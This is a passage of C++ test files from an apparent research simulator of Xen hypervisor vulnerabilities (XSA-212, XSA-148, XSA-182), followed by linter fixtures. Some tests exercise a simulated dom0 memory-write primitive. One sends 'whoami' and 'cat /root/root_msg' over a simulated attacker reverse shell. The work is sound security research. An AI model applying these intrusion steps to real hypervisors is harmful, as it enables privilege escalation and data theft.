  // Target: a byte inside dom0's start_info frame, via its directmap
  // (hypervisor linear) address.
  const sim::Paddr pa =
      sim::mfn_to_paddr(p.hv().domain(hv::kDom0).start_info_mfn()) + 0x300;
  ASSERT_EQ(prim.write_mfn_at(hv::directmap_vaddr(pa)), hv::kOk);
  std::uint64_t written = 0;
  p.memory().read(pa, {reinterpret_cast<std::uint8_t*>(&written),
                       sizeof written});
  EXPECT_EQ(written, prim.last_mfn());
  EXPECT_NE(written, 0u);
}

TEST(ExchangePrimitive, GroomedWritePlacesExactValue) {
  auto p = make_platform(hv::kXen46, false);
  ExchangeWritePrimitive prim{p.guest(0)};
  const sim::Paddr pa =
      sim::mfn_to_paddr(p.hv().domain(hv::kDom0).start_info_mfn()) + 0x300;
  const std::uint64_t value = 0x0123456789ABCDEFULL;
  ASSERT_TRUE(prim.write_u64(hv::directmap_vaddr(pa), value));
  std::uint64_t written = 0;
  p.memory().read(pa, {reinterpret_cast<std::uint8_t*>(&written),
                       sizeof written});
  EXPECT_EQ(written, value);
  // Grooming costs many exchanges — that asymmetry vs. the injector's
  // single hypercall is the paper's "easier to induce than attack" point.
  EXPECT_GT(prim.exchanges_used(), 8u);
}

TEST(ExchangePrimitive, ZeroByteCleansSpill) {
  auto p = make_platform(hv::kXen46, false);
  ExchangeWritePrimitive prim{p.guest(0)};
  const sim::Paddr pa =
      sim::mfn_to_paddr(p.hv().domain(hv::kDom0).start_info_mfn()) + 0x300;
  ASSERT_TRUE(prim.write_u64(hv::directmap_vaddr(pa), 0x11ULL));
  ASSERT_TRUE(
      prim.zero_byte_at(sim::Vaddr{hv::directmap_vaddr(pa).raw() + 8}));
  std::uint8_t spill = 0xFF;
  p.memory().read(pa + 8, {&spill, 1});
  EXPECT_EQ(spill, 0);
}

TEST(ExchangePrimitive, RefusedOnFixedVersions) {
  for (const auto version : {hv::kXen48, hv::kXen413}) {
    auto p = make_platform(version, false);
    ExchangeWritePrimitive prim{p.guest(0)};
    const auto target = hv::directmap_vaddr(sim::Paddr{0x1000});
    EXPECT_FALSE(prim.write_u64(target, 42)) << version.to_string();
    EXPECT_EQ(prim.rc(), hv::kEFAULT) << version.to_string();
  }
}

// --------------------------------------------------------- intrusion models

TEST(UseCaseModels, MatchTableTwo) {
  const auto cases = make_paper_use_cases();
  ASSERT_EQ(cases.size(), 4u);
  EXPECT_EQ(cases[0]->name(), "XSA-212-crash");
  EXPECT_EQ(cases[1]->name(), "XSA-212-priv");
  EXPECT_EQ(cases[2]->name(), "XSA-148-priv");
  EXPECT_EQ(cases[3]->name(), "XSA-182-test");

  using AF = core::AbusiveFunctionality;
  EXPECT_EQ(cases[0]->model().functionality,
            AF::WriteUnauthorizedArbitraryMemory);
  EXPECT_EQ(cases[1]->model().functionality,
            AF::WriteUnauthorizedArbitraryMemory);
  EXPECT_EQ(cases[2]->model().functionality,
            AF::GuestWritablePageTableEntry);
  EXPECT_EQ(cases[3]->model().functionality,
            AF::GuestWritablePageTableEntry);

  for (const auto& uc : cases) {
    EXPECT_EQ(uc->model().source, core::TriggeringSource::UnprivilegedGuest);
    EXPECT_EQ(uc->model().component, core::TargetComponent::MemoryManagement);
    EXPECT_EQ(uc->model().interface, core::InteractionInterface::Hypercall);
  }
}

// --------------------------------------------------- per-case fine details

TEST(UseCaseDetails, FreshPlatformHasNoErroneousStates) {
  auto p = make_platform(hv::kXen46);
  for (const auto& uc : make_paper_use_cases()) {
    EXPECT_FALSE(uc->erroneous_state_present(p)) << uc->name();
    EXPECT_FALSE(uc->security_violation(p)) << uc->name();
  }
}

TEST(UseCaseDetails, Xsa212CrashInjectionLogsAndCrashes) {
  auto p = make_platform(hv::kXen413);
  Xsa212Crash uc;
  const auto out = uc.run_injection(p);
  EXPECT_TRUE(out.completed);
  EXPECT_TRUE(p.hv().crashed());
  bool panic_line = false;
  for (const auto& line : p.hv().console()) {
    if (line.find("DOUBLE FAULT") != std::string::npos) panic_line = true;
  }
  EXPECT_TRUE(panic_line);
}

TEST(UseCaseDetails, Xsa212PrivExploitEmitsPaperMessages) {
  auto p = make_platform(hv::kXen46, false);
  Xsa212Priv uc;
  const auto out = uc.run_exploit(p);
  ASSERT_TRUE(out.completed);
  const auto has_note = [&](const char* text) {
    for (const auto& n : out.notes) {
      if (n.find(text) != std::string::npos) return true;
    }
    return false;
  };
  EXPECT_TRUE(has_note("### crafted PUD entry written"));
  EXPECT_TRUE(has_note("going to link PMD into target PUD"));
  EXPECT_TRUE(has_note("linked PMD into target PUD"));
  // And the injector_log content matches the transcript.
  const auto log = p.guest(1).fs().read("/tmp/injector_log", 0);
  ASSERT_TRUE(log.has_value());
  EXPECT_EQ(*log, "|uid=0(root) gid=0(root) groups=0(root)|@guest02");
}

TEST(UseCaseDetails, Xsa212PrivInjectionAbortsCleanlyOn413) {
  auto p = make_platform(hv::kXen413);
  Xsa212Priv uc;
  const auto out = uc.run_injection(p);
  EXPECT_FALSE(out.completed);  // payload install faulted
  EXPECT_TRUE(uc.erroneous_state_present(p));
  EXPECT_FALSE(uc.security_violation(p));
  bool bug_line = false;
  for (const auto& n : out.notes) {
    if (n.find("unable to handle page request") != std::string::npos) {
      bug_line = true;
    }
  }
  EXPECT_TRUE(bug_line);
  EXPECT_FALSE(p.hv().crashed());  // handled, not a host crash
}

TEST(UseCaseDetails, Xsa148ExploitEmitsPaperMessages) {
  auto p = make_platform(hv::kXen46, false);
  Xsa148Priv uc;
  const auto out = uc.run_exploit(p);
  ASSERT_TRUE(out.completed);
  const auto has_note = [&](const char* text) {
    for (const auto& n : out.notes) {
      if (n.find(text) != std::string::npos) return true;
    }
    return false;
  };
  EXPECT_TRUE(has_note("xen_exploit: xen version = 4.6"));
  EXPECT_TRUE(has_note("startup_dump ok"));
  EXPECT_TRUE(has_note("dom0!"));
  EXPECT_TRUE(has_note("dom0 vdso"));
}

TEST(UseCaseDetails, Xsa148ShellReadsConfidentialRootFile) {
  // The paper's final transcript: the attacker cats /root/root_msg over the
  // reverse shell.
  auto p = make_platform(hv::kXen413);
  Xsa148Priv uc;
  ASSERT_TRUE(uc.run_injection(p).completed);
  const auto conns = p.attacker().accepted(Xsa148Priv::kShellPort);
  ASSERT_EQ(conns.size(), 1u);
  conns[0]->send(net::Endpoint::Client, "whoami && hostname");
  conns[0]->send(net::Endpoint::Client, "cat /root/root_msg");
  p.pump();
  EXPECT_EQ(conns[0]->poll(net::Endpoint::Client), "root\nxen-dom0");
  EXPECT_EQ(conns[0]->poll(net::Endpoint::Client),
            "Confidential content in root folder!");
}

TEST(UseCaseDetails, Xsa182ExploitStopsAtRwFlipOn48) {
  auto p = make_platform(hv::kXen48, false);
  Xsa182Test uc;
  const auto out = uc.run_exploit(p);
  EXPECT_FALSE(out.completed);
  EXPECT_EQ(out.rc, hv::kEPERM);
  bool not_vulnerable = false;
  for (const auto& n : out.notes) {
    if (n.find("not vulnerable") != std::string::npos) not_vulnerable = true;
  }
  EXPECT_TRUE(not_vulnerable);
  EXPECT_FALSE(uc.erroneous_state_present(p));
}

TEST(UseCaseDetails, Xsa182InjectionPrintsPageDirectoryLine) {
  auto p = make_platform(hv::kXen48);
  Xsa182Test uc;
  const auto out = uc.run_injection(p);
  ASSERT_TRUE(out.completed);
  bool probe_line = false;
  for (const auto& n : out.notes) {
    if (n.find("page_directory[42] = 0x") != std::string::npos) {
      probe_line = true;
    }
  }
  EXPECT_TRUE(probe_line);
  EXPECT_TRUE(uc.security_violation(p));
}

TEST(UseCaseDetails, Xsa182InjectionHandledOn413WithException) {
  auto p = make_platform(hv::kXen413);
  Xsa182Test uc;
  const auto out = uc.run_injection(p);
  EXPECT_FALSE(out.completed);
  bool exception_line = false;
  for (const auto& n : out.notes) {
    if (n.find("exception while updating") != std::string::npos) {
      exception_line = true;
    }
  }
  EXPECT_TRUE(exception_line);
  EXPECT_TRUE(uc.erroneous_state_present(p));
  EXPECT_FALSE(uc.security_violation(p));
}

TEST(UseCaseDetails, ExploitsRefuseWithoutRequiredPrimitive) {
  // Running the injection scripts against a stock (injector-less) build
  // fails with -ENOSYS rather than silently "succeeding".
  auto p = make_platform(hv::kXen46, /*injector=*/false);
  Xsa182Test uc;
  const auto out = uc.run_injection(p);
  EXPECT_FALSE(out.completed);
  EXPECT_EQ(out.rc, hv::kENOSYS);
}

}  // namespace
}  // namespace ii::xsa
