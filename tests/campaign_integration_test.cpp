// End-to-end reproduction of the paper's experimental matrix (§VI–§VIII).
//
// These tests assert the *shape* of the published results:
//   RQ1 (Fig. 4): on vulnerable Xen 4.6, every exploit succeeds and every
//        injection reproduces the same erroneous state and violation.
//   §VII first step: on 4.8/4.13 the original exploits all fail.
//   RQ2/RQ3 (Table III): injections induce the erroneous state on every
//        version; 4.8 suffers every violation; 4.13 handles XSA-212-priv
//        and XSA-182-test (the "shield" cells) but not the other two.
#include <gtest/gtest.h>

#include <atomic>

#include "core/campaign.hpp"
#include "core/report.hpp"
#include "xsa/usecases.hpp"

namespace ii {
namespace {

core::Campaign make_campaign() {
  core::CampaignConfig config{};
  return core::Campaign{config};
}

class CampaignMatrix : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    const auto cases = xsa::make_paper_use_cases();
    results_ = new std::vector<core::CellResult>{make_campaign().run(cases)};
  }
  static void TearDownTestSuite() {
    delete results_;
    results_ = nullptr;
  }

  static const core::CellResult& cell(const std::string& name,
                                      hv::XenVersion version,
                                      core::Mode mode) {
    for (const auto& r : *results_) {
      if (r.use_case == name && r.version == version && r.mode == mode) {
        return r;
      }
    }
    throw std::logic_error{"missing cell " + name};
  }

  static std::vector<core::CellResult>* results_;
};

std::vector<core::CellResult>* CampaignMatrix::results_ = nullptr;

const char* kCases[] = {"XSA-212-crash", "XSA-212-priv", "XSA-148-priv",
                        "XSA-182-test"};

TEST_F(CampaignMatrix, RQ1ExploitsSucceedOnVulnerableVersion) {
  for (const char* name : kCases) {
    const auto& c = cell(name, hv::kXen46, core::Mode::Exploit);
    EXPECT_TRUE(c.outcome.completed) << name;
    EXPECT_TRUE(c.err_state) << name;
    EXPECT_TRUE(c.violation) << name;
  }
}

TEST_F(CampaignMatrix, RQ1InjectionsMatchExploitsOnVulnerableVersion) {
  for (const char* name : kCases) {
    const auto& exploit = cell(name, hv::kXen46, core::Mode::Exploit);
    const auto& injection = cell(name, hv::kXen46, core::Mode::Injection);
    EXPECT_EQ(exploit.err_state, injection.err_state) << name;
    EXPECT_EQ(exploit.violation, injection.violation) << name;
    EXPECT_TRUE(injection.err_state) << name;
  }
}

TEST_F(CampaignMatrix, ExploitsFailOnFixedVersions) {
  for (const char* name : kCases) {
    for (const auto version : {hv::kXen48, hv::kXen413}) {
      const auto& c = cell(name, version, core::Mode::Exploit);
      EXPECT_FALSE(c.outcome.completed)
          << name << " on " << version.to_string();
      EXPECT_FALSE(c.err_state) << name << " on " << version.to_string();
      EXPECT_FALSE(c.violation) << name << " on " << version.to_string();
    }
  }
}

TEST_F(CampaignMatrix, ExploitFailureCodesMatchPaper) {
  // "the exploit execution fails with a return code of -EFAULT" (XSA-212).
  EXPECT_EQ(cell("XSA-212-crash", hv::kXen48, core::Mode::Exploit).outcome.rc,
            hv::kEFAULT);
  EXPECT_EQ(cell("XSA-212-crash", hv::kXen413, core::Mode::Exploit).outcome.rc,
            hv::kEFAULT);
  EXPECT_EQ(cell("XSA-212-priv", hv::kXen48, core::Mode::Exploit).outcome.rc,
            hv::kEFAULT);
}

TEST_F(CampaignMatrix, RQ2InjectionInducesErroneousStateEverywhere) {
  for (const char* name : kCases) {
    for (const auto version : {hv::kXen46, hv::kXen48, hv::kXen413}) {
      const auto& c = cell(name, version, core::Mode::Injection);
      EXPECT_TRUE(c.err_state) << name << " on " << version.to_string();
    }
  }
}

TEST_F(CampaignMatrix, TableIIIViolationsOn48) {
  for (const char* name : kCases) {
    const auto& c = cell(name, hv::kXen48, core::Mode::Injection);
    EXPECT_TRUE(c.violation) << name;
  }
}

TEST_F(CampaignMatrix, TableIIIXen413HandlesTwoCases) {
  EXPECT_TRUE(
      cell("XSA-212-crash", hv::kXen413, core::Mode::Injection).violation);
  EXPECT_TRUE(
      cell("XSA-148-priv", hv::kXen413, core::Mode::Injection).violation);
  // The shield cells: erroneous state injected, violation prevented.
  const auto& priv = cell("XSA-212-priv", hv::kXen413, core::Mode::Injection);
  EXPECT_TRUE(priv.handled());
  const auto& test182 =
      cell("XSA-182-test", hv::kXen413, core::Mode::Injection);
  EXPECT_TRUE(test182.handled());
}

TEST_F(CampaignMatrix, ReportsRender) {
  const std::string rq1 = core::render_rq1_table(*results_);
  const std::string t3 = core::render_table3(*results_);
  EXPECT_NE(rq1.find("XSA-212-crash"), std::string::npos);
  EXPECT_NE(t3.find("[shield]"), std::string::npos);
}

// --- run_parallel fault containment -------------------------------------
//
// A worker's factory or a use case throwing must never escape a worker
// thread (std::terminate would take the whole campaign down); it fails
// the owning worker/cell only, and siblings finish the matrix.

/// Inert use case: completes without touching the platform.
class BenignCase : public core::UseCase {
 public:
  explicit BenignCase(std::string name) : name_{std::move(name)} {}
  [[nodiscard]] std::string name() const override { return name_; }
  [[nodiscard]] core::IntrusionModel model() const override { return {}; }
  core::CaseOutcome run_exploit(guest::VirtualPlatform&) override {
    core::CaseOutcome outcome;
    outcome.completed = true;
    return outcome;
  }
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override {
    return run_exploit(p);
  }
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform&) const override {
    return false;
  }
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform&) const override {
    return false;
  }

 private:
  std::string name_;
};

/// Throws a non-std type from the attempt itself.
class ThrowingCase : public BenignCase {
 public:
  ThrowingCase() : BenignCase{"thrower"} {}
  core::CaseOutcome run_exploit(guest::VirtualPlatform&) override {
    throw 42;  // deliberately not std::exception
  }
  core::CaseOutcome run_injection(guest::VirtualPlatform&) override {
    throw 42;
  }
};

core::CampaignConfig tiny_config() {
  core::CampaignConfig config{};
  config.versions = {hv::kXen46};
  config.modes = {core::Mode::Exploit};
  return config;
}

TEST(CampaignParallel, OneThrowingFactoryDoesNotSinkTheRun) {
  // Call 1 materializes the cell list; among the per-worker calls, exactly
  // one throws. The surviving worker must drain every cell.
  std::atomic<unsigned> calls{0};
  const auto factory = [&]() -> std::vector<std::unique_ptr<core::UseCase>> {
    if (calls.fetch_add(1) == 1) {
      throw std::runtime_error{"factory exploded"};
    }
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<BenignCase>("alpha"));
    cases.push_back(std::make_unique<BenignCase>("beta"));
    cases.push_back(std::make_unique<BenignCase>("gamma"));
    return cases;
  };
  const auto results = core::Campaign{tiny_config()}.run_parallel(factory, 2);
  ASSERT_EQ(results.size(), 3u);
  EXPECT_EQ(results[0].use_case, "alpha");
  EXPECT_EQ(results[2].use_case, "gamma");
  for (const auto& cell : results) {
    EXPECT_TRUE(cell.outcome.completed) << cell.use_case;
    EXPECT_FALSE(cell.failed()) << cell.use_case;
  }
}

TEST(CampaignParallel, AllFactoriesThrowingIsReportedLoudly) {
  // When no worker can construct its cases, no cell ever runs; returning a
  // default-constructed matrix would masquerade as results.
  std::atomic<unsigned> calls{0};
  const auto factory = [&]() -> std::vector<std::unique_ptr<core::UseCase>> {
    if (calls.fetch_add(1) == 0) {
      std::vector<std::unique_ptr<core::UseCase>> cases;
      cases.push_back(std::make_unique<BenignCase>("alpha"));
      return cases;  // the cell-list materialization succeeds
    }
    throw std::runtime_error{"no cases for you"};
  };
  EXPECT_THROW(
      (void)core::Campaign{tiny_config()}.run_parallel(factory, 2),
      std::runtime_error);
}

TEST(CampaignParallel, NonStandardExceptionFailsOnlyItsCell) {
  const auto factory = [] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<BenignCase>("alpha"));
    cases.push_back(std::make_unique<ThrowingCase>());
    cases.push_back(std::make_unique<BenignCase>("gamma"));
    return cases;
  };
  const auto results = core::Campaign{tiny_config()}.run_parallel(factory, 2);
  ASSERT_EQ(results.size(), 3u);
  EXPECT_FALSE(results[0].failed());
  EXPECT_TRUE(results[0].outcome.completed);
  EXPECT_TRUE(results[1].failed());
  EXPECT_EQ(results[1].failure, "non-standard exception");
  EXPECT_FALSE(results[1].outcome.completed);
  EXPECT_FALSE(results[2].failed());
  EXPECT_TRUE(results[2].outcome.completed);
}

}  // namespace
}  // namespace ii
