// False-positive regression fixture: every forbidden pattern below sits
// inside a comment or a string literal. The retired grep-based ii-lint
// flagged several of these shapes; the token-level analyzer must stay
// silent on all of them, under every rule at once.
//
// Line-comment bait, straight from docs that used to trip the grep:
//   pi.type = PageType::Writable;  ++pages[0].ref_count;
//   trace_->emit(3, domain);       std::mt19937 rng{seed * 31};
//   restore_frame(mfn);            auto m = pte.raw() & 0xFFF;
//   chaos_fire("never.registered") std::random_device entropy;
//   g_visited.insert(h);           for (auto h : shard_visited) {}
/*
 * Block-comment bait: pi->validated = true; srand(42); rand();
 * const_cast<std::uint8_t*>(mem.frame_bytes(mfn).data());
 * for (auto& kv : some_unordered_map) {}
 * visited.erase(hash); *visited.begin();
 */
#include <string_view>

namespace fp {

inline constexpr std::string_view kGrepBait =
    "pi.type = PageType::Writable; std::mt19937 rng{seed}; "
    "x.raw() | 0x4; va & 0xFFF; restore_image(img); "
    "chaos_fire(\"ghost.point\"); std::random_device rd; "
    "std::chrono::steady_clock::now(); ++pi.ref_count;";

inline constexpr std::string_view kRawBait =
    R"(pi.ref_count += 1; system_clock::now(); rand(); 0x000FFFFFFFFFF000ULL)";

inline constexpr std::string_view kVisitedBait =
    "visited.clear(); visited_set.emplace(h); for (auto h : g_visited) {}";

}  // namespace fp
