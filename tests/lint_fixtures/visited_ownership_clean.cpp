// Known-clean fixture for the visited-ownership rule: the sanctioned
// surface — owner API calls, frozen-phase probes, and sizing — none of
// which may fire.
#include <cstddef>
#include <cstdint>

namespace clean {

struct ShardedVisited {
  [[nodiscard]] bool probe(std::uint64_t) const { return false; }
  [[nodiscard]] bool owner_contains(std::size_t, std::uint64_t) const {
    return false;
  }
  bool owner_insert(std::size_t, std::uint64_t) { return true; }
  [[nodiscard]] std::uint64_t total() const { return 0; }
};

std::uint64_t drive(ShardedVisited& visited) {
  if (!visited.probe(42) && !visited.owner_contains(0, 42)) {
    (void)visited.owner_insert(0, 42);
  }
  return visited.total();
}

// A non-visited container keeps its ordinary surface.
void unrelated(int* frontier, std::size_t n) {
  for (std::size_t i = 0; i < n; ++i) frontier[i] = 0;
}

}  // namespace clean
