// Known-bad fixture: chaos_fire sites naming points that have no row in
// the chaos-point table. The finding anchors at the string literal's
// line, so the split call is flagged where the name actually sits.
namespace bad {

bool tick() {
  if (chaos_fire("not.registered")) return true;  // EXPECT[chaos-point-registry]
  return chaos_fire(
      "also.unregistered");  // EXPECT[chaos-point-registry]
}

}  // namespace bad
