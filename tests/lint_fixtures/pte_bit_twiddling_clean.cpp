// Known-clean fixture: named masks, different literal values, and the
// codec's own accessors do not trip the rule.
#include <cstdint>

namespace clean {

std::uint64_t fine(const Pte& pte, std::uint64_t va, std::uint64_t bits) {
  const auto flags = pte.flags();            // accessor, not raw arithmetic
  const auto masked = va & kPageOffsetMask;  // named constant
  const auto other = bits & 0xFF0;           // different literal value
  const auto near_miss = bits & 0x000FFFFFFFFFF0ULL;  // not the frame mask
  return flags + masked + other + near_miss;
}

}  // namespace clean
