// Known-bad fixture: wall clocks, hidden RNG state, and unordered
// iteration in a translation unit inside the determinism perimeter.
#include <chrono>
#include <cstdlib>
#include <random>
#include <string>
#include <unordered_map>

namespace bad {

std::uint64_t stamp() {
  const auto t0 = std::chrono::steady_clock::now();           // EXPECT[determinism]
  const auto t1 = std::chrono::system_clock::now();           // EXPECT[determinism]
  const auto t2 = std::chrono::high_resolution_clock::now();  // EXPECT[determinism]
  (void)t0;
  (void)t1;
  (void)t2;
  return 0;
}

int entropy() {
  std::random_device rd;  // EXPECT[determinism]
  std::srand(rd());       // EXPECT[determinism]
  return rand();          // EXPECT[determinism]
}

void render(const std::unordered_map<std::string, int>& counters) {
  for (const auto& [name, n] : counters) {  // EXPECT[determinism]
    (void)name;
    (void)n;
  }
  auto it = counters.begin();  // EXPECT[determinism]
  (void)it;
}

}  // namespace bad
