// Known-bad fixture for the S1 policy check: frame-state writes through
// the surfaces the old grep never saw — arrow access, compound
// assignment operators outside the ported set, prefix increments through
// ->, and exchange/swap smuggling a write past the state machine.
#include <utility>

namespace bad {

void smuggle(PageInfo* pi, PageInfo& a, PageInfo& b, Frames& frames) {
  pi->type = PageType::Writable;               // EXPECT[frame-state-writes]
  pi->validated = true;                        // EXPECT[frame-state-writes]
  pi->ref_count -= 1;                          // EXPECT[frame-state-writes]
  frames[2].ref_count |= 1;                    // EXPECT[frame-state-writes]
  ++pi->type_count;                            // EXPECT[frame-state-writes]
  std::exchange(pi->type, PageType::Invalid);  // EXPECT[frame-state-writes]
  std::swap(a.ref_count, b.ref_count);         // EXPECT[frame-state-writes]
}

}  // namespace bad
