// Suppression-semantics fixture: an own-line ii-analyze:allow comment
// covers the next code line (even across the rest of its comment block),
// an inline allow covers its own line, and an unsuppressed finding still
// fires.
#include <chrono>

namespace sup {

// ii-analyze:allow(determinism): the wall clock below is this fixture's
// subject; the own-line comment must reach past this second comment line.
inline auto block_suppressed() { return std::chrono::steady_clock::now(); }

inline auto inline_suppressed() {
  return std::chrono::system_clock::now();  // ii-analyze:allow(*)
}

inline auto unsuppressed() {
  return std::chrono::high_resolution_clock::now();  // EXPECT[determinism]
}

}  // namespace sup
