// Known-clean fixture: seed_seq construction over both seed halves,
// default/value initialization, and the named-parenthesis form — which
// the token stream cannot distinguish from a function declaration, the
// same deliberate gap the retired grep documented.
#include <random>

namespace clean {

std::mt19937 make(std::uint64_t seed) {
  std::seed_seq seq{static_cast<std::uint32_t>(seed),
                    static_cast<std::uint32_t>(seed >> 32)};
  std::mt19937 rng{seq};  // lone seed_seq is the blessed form
  std::mt19937 fresh;     // default-constructed
  std::mt19937 empty{};   // value-init, no seed expression
  (void)fresh;
  (void)empty;
  return rng;
}

std::mt19937 declare(std::uint64_t raw_seed);  // named + parens: a decl

}  // namespace clean
