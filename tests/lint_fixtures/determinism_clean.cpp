// Known-clean fixture: ordered-container iteration, keyed access into an
// unordered container, and order-free queries never trip the rule — the
// point is iteration order, not the container itself.
#include <cstdint>
#include <map>
#include <string>
#include <unordered_map>

namespace clean {

std::uint64_t render(const std::map<std::string, std::uint64_t>& counters,
                     std::unordered_map<std::string, int>& scratch) {
  std::uint64_t total = 0;
  for (const auto& [name, n] : counters) total += n + name.size();
  scratch["hits"] += 1;           // keyed access is order-free
  return total + scratch.size();  // size() is order-free
}

}  // namespace clean
