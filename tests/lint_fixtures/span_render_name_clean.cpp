// Known-clean fixture: only registered span constants are used.
#include "obs/span.hpp"

namespace clean {

void instrument(ii::obs::SpanProfiler* prof) {
  const ii::obs::ScopedSpan span{prof, kSpanCell};
}

}  // namespace clean
