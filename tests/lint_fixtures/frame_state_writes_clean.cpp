// Known-clean fixture: reads through arrows, comparisons, and
// exchange/swap on members outside the frame-state vocabulary.
#include <utility>

namespace clean {

bool audit(const PageInfo* pi, Entry& a, Entry& b) {
  const bool writable = pi->type == PageType::Writable;
  const auto refs = pi->ref_count;
  std::swap(a.payload, b.payload);
  const auto prev = std::exchange(a.cursor, b.cursor);
  return writable && refs + prev >= 0 && pi->validated;
}

}  // namespace clean
