// Known-bad fixture: PTE encoding knowledge leaking out of the codec —
// raw() bit arithmetic, the 0xFFF page-offset mask (with and without ~,
// and with a digit separator the grep's literal pattern missed), and the
// frame-mask literal.
#include <cstdint>

namespace bad {

std::uint64_t leak(const Pte& pte, std::uint64_t va, std::uint64_t bits) {
  const auto low = pte.raw() | 0x4;                 // EXPECT[pte-bit-twiddling]
  const auto off = va & 0xFFF;                      // EXPECT[pte-bit-twiddling]
  const auto base = bits & ~0xFFF;                  // EXPECT[pte-bit-twiddling]
  const auto sep = va & 0xF'FF;                     // EXPECT[pte-bit-twiddling]
  const auto frame = bits & 0x000FFFFFFFFFF000ULL;  // EXPECT[pte-bit-twiddling]
  return low + off + base + sep + frame;
}

}  // namespace bad
