// Known-clean fixture: every sink emission names its TraceCategory (even
// when the enumerator sits on its own continuation line), and emitters
// that are not trace sinks stay out of scope.
#include "obs/trace.hpp"

namespace clean {

void emit_named(ii::obs::TraceSink* sink, ii::obs::TraceSink* trace_,
                Queue& queue) {
  sink->emit(ii::obs::TraceCategory::Panic, 0, 1);
  trace_->emit(
      ii::obs::TraceCategory::HypercallEnter,  // category on its own line
      0, 2);
  queue.emit(5);  // receiver is not a trace sink
}

}  // namespace clean
