// Known-bad fixture for the visited-ownership rule: raw container
// mutation of visited sets outside their owner, and walks that leak
// unordered bucket order. Every violating line carries an EXPECT marker.
#include <cstdint>
#include <unordered_set>

namespace bad {

std::unordered_set<std::uint64_t> g_visited;

void sneak_insert(std::uint64_t h) {
  g_visited.insert(h);  // EXPECT[visited-ownership]
}

void sneak_erase(std::uint64_t h) {
  g_visited.erase(h);  // EXPECT[visited-ownership]
}

void sneak_clear() {
  g_visited.clear();  // EXPECT[visited-ownership]
}

std::uint64_t walk_sum() {
  std::uint64_t sum = 0;
  for (const std::uint64_t h : g_visited) sum += h;  // EXPECT[visited-ownership]
  return sum;
}

std::uint64_t first_hash() {
  return *g_visited.begin();  // EXPECT[visited-ownership]
}

struct Worker {
  std::unordered_set<std::uint64_t>* visited_shard;
  void push(std::uint64_t h) {
    visited_shard->emplace(h);  // EXPECT[visited-ownership]
  }
};

}  // namespace bad
