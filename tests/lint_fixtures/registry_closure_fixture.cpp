// Instrumentation-site fixture for the registry stubs: fires the
// registered chaos point and uses the registered span constant, so the
// closure rule sees live vocabulary.
#include "obs/span.hpp"

namespace fix {

bool exercise(ii::obs::SpanProfiler* prof) {
  const ii::obs::ScopedSpan span{prof, kSpanCell};
  return chaos_fire("cell.alloc_fail");
}

}  // namespace fix
