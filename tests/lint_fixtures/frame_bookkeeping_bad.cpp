// Known-bad fixture: PageInfo state-machine bookkeeping outside the
// frame-table core. Every marked line must be flagged by the
// frame-bookkeeping rule, including the cross-line write and the prefix
// increment through an index chain — both invisible to the retired grep.
#include "hv/frame_table.hpp"

namespace bad {

void poke(ii::hv::PageInfo& pi, std::vector<ii::hv::PageInfo>& pages) {
  pi.type = ii::hv::PageType::Writable;  // EXPECT[frame-bookkeeping]
  pi.validated = true;                   // EXPECT[frame-bookkeeping]
  pi.ref_count += 1;                     // EXPECT[frame-bookkeeping]
  pi.type_count--;                       // EXPECT[frame-bookkeeping]
  ++pages[3].ref_count;                  // EXPECT[frame-bookkeeping]
  pi.type =                              // EXPECT[frame-bookkeeping]
      ii::hv::PageType::Invalid;
}

}  // namespace bad
