// Known-bad fixture: frame mutations that bypass write-generation
// marking — snapshot restore entry points called outside the snapshot
// engine, and a const_cast of the read-only frame view.
#include <cstdint>

namespace bad {

void clobber(PhysMem& mem, const Image& img, std::uint64_t mfn) {
  mem.restore_frame(mfn);               // EXPECT[dirty-tracking]
  restore_image(                        // EXPECT[dirty-tracking]
      img);
  auto* p = const_cast<std::uint8_t*>(  // EXPECT[dirty-tracking]
      mem.frame_bytes(mfn).data());
  p[0] = 1;
}

}  // namespace bad
