// Known-bad fixture: std::mt19937 seeded with expressions — each one
// truncates a 64-bit campaign seed to the engine's 32-bit result_type.
#include <random>

namespace bad {

std::uint32_t draw(std::uint64_t seed) {
  std::mt19937 rng{seed};                                // EXPECT[rng-seed-truncation]
  std::mt19937 mixed{seed * 0x9E3779B9u + 1};            // EXPECT[rng-seed-truncation]
  auto tmp = std::mt19937{static_cast<unsigned>(seed)};  // EXPECT[rng-seed-truncation]
  auto tmp2 = std::mt19937(seed);                        // EXPECT[rng-seed-truncation]
  return rng() + mixed() + tmp() + tmp2();
}

}  // namespace bad
