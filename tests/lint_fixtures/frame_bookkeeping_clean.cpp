// Known-clean fixture: reads and comparisons of PageInfo members are fine
// anywhere, and a local that happens to share a member's name is not a
// member write.
#include "hv/frame_table.hpp"

namespace clean {

bool inspect(const ii::hv::PageInfo& pi) {
  if (pi.type == ii::hv::PageType::Writable) return pi.validated;
  const auto refs = pi.ref_count;
  const bool balanced = pi.type_count == 0 && refs != 0;
  int type = 0;
  type = 3;  // local variable, not a member access
  return balanced && type == 3 && pi.ref_count >= 0;
}

}  // namespace clean
