// Known-bad fixture: TraceSink emissions whose argument list never names
// a TraceCategory enumerator — raw integer categories defeat the
// registry. The second call spreads its arguments across lines; the old
// single-line grep missed that shape entirely.
#include "obs/trace.hpp"

namespace bad {

void emit_raw(ii::obs::TraceSink* sink, ii::obs::TraceSink* trace_) {
  sink->emit(3, 0, 7);  // EXPECT[trace-category]
  trace_->emit(         // EXPECT[trace-category]
      4, 0, 9);
  trace()->emit(11);    // EXPECT[trace-category]
}

}  // namespace bad
