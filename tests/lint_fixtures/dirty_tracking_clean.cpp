// Known-clean fixture: reading the frame view, similarly-named helpers,
// and const_cast of unrelated data are all fine.
#include <cstdint>

namespace clean {

std::uint8_t peek(const PhysMem& mem, std::uint64_t mfn) {
  const auto view = mem.frame_bytes(mfn);       // read-only view
  restore();                                    // unrelated helper
  auto* q = const_cast<char*>(label().data());  // const_cast of other data
  return view.empty() ? *q : view[0];
}

}  // namespace clean
