// Known-clean fixture: the fired point is a registered table row, and a
// forwarding wrapper passing a non-literal is not a site.
namespace clean {

bool tick(const char* dynamic_point) {
  if (chaos_fire(dynamic_point)) return true;  // forwarder, not a site
  return chaos_fire("cell.alloc_fail");
}

}  // namespace clean
