// Chaos registry stub (closure-bad variant): one live row, one row no
